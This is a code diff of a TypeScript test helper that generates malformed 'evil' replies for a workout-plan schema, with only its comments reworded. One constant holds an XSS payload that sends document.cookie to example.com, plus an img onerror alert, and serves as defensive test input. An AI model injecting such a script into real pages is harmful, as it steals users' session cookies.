@@ -7,8 +7,8 @@ type Reply = Partial<MetadataReply> & Partial<WeekReply>
 type Evil = (reply: Reply, block: CanonicalBlock) => Reply
 
 /**
- * The nonsense that a model may send: most of it fits the schema, the rest is what servers send that
- * ignore bounds and types. `reply` stays as it is.
+ * A copy of a reply with bad content. Most kinds still fit the schema; the others are what servers send that ignore its
+ * bounds and types.
  */
 export function evilReply(kind: EvilKind, reply: object, block: CanonicalBlock): object {
   return evils[kind](structuredClone(reply), block)
@@ -46,7 +46,7 @@ const evils: Record<EvilKind, Evil> = {
 const HTML =
   '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>'
 
-/** In every text there is. */
+/** Puts the words into every text of the reply. */
 function withWords(reply: Reply, words: string): Reply {
   const said = (keys: string[]) => Object.fromEntries(keys.map((key) => [key, words]))
   if (!reply.days) return { ...reply, ...said(['why', 'name', 'strategy']) }
@@ -61,7 +61,7 @@ function withWords(reply: Reply, words: string): Reply {
   }
 }
 
-/** In a week, where exercises are fixed, slots that are not in the plan. */
+/** Other exercises in metadata; in a week, whose exercises are fixed, slots that the plan does not have. */
 function withExercises(reply: Reply, id: (n: number) => string): Reply {
   const slots = reply.slots?.map((choice, n) => ({ ...choice, a: id(2 * n), b: id(2 * n + 1) }))
   const days = reply.days?.map((day) => ({
@@ -77,7 +77,7 @@ function withExercises(reply: Reply, id: (n: number) => string): Reply {
   }
 }
 
-/** Of the catalogue, and in no slot's list. */
+/** An exercise of the catalogue that no slot offers. */
 function forbiddenIn(block: CanonicalBlock, n: number): string {
   const allowed = new Set(
     block.kind === 'metadata' ? block.slots.flatMap(({ candidates }) => candidates) : [],
@@ -94,7 +94,7 @@ function withNumbers(reply: Reply, sets: number, amount: number): Reply {
   return { ...reply, ...(days && { days }) }
 }
 
-/** The last day is missing, another is there twice, and one that nobody asked for is there too. */
+/** Without the last day, with the first day twice, and with a day that nobody asked for. */
 function withOtherDays(reply: Reply): Reply {
   const slots = reply.slots?.slice(0, Math.ceil(reply.slots.length / 2))
   const [first, ...others] = reply.days ?? []
